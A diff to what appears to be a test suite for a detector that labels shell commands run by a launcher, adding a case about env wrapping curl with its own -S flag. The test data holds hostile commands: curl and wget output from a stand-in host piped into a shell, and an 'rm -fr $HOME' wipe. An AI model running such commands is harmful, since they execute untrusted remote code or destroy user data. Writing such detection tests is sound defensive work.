@@ -52,6 +52,8 @@ describe('detections on what a launcher runs', () => {
     ['ssh -o ProxyCommand running a fetched script', `ssh -o ProxyCommand='sh -c "curl -s http://198.51.100.7/x | sh"' bastion`, 'download-piped-to-shell'],
     ['env -S splitting a shell line that fetches and runs', `/usr/bin/env -vS "dash -c 'wget -qO- http://198.51.100.7/e | dash'"`, 'download-piped-to-shell'],
     ['env -S wiping the home directory', `env -S"rm -fr" $HOME`, 'destructive-delete'],
+    // Only env's own options are read for -S: the program's (`curl -sS`) leave env a wrapper, the program judged.
+    ['a program with its own -S under env', `env NO_PROXY=1 curl -fsS https://get.example.dev/i | bash`, 'download-piped-to-shell'],
   ])('%s', (_name, command, rule) => {
     expect(rulesOfCommand(command)).toContain(rule);
   });
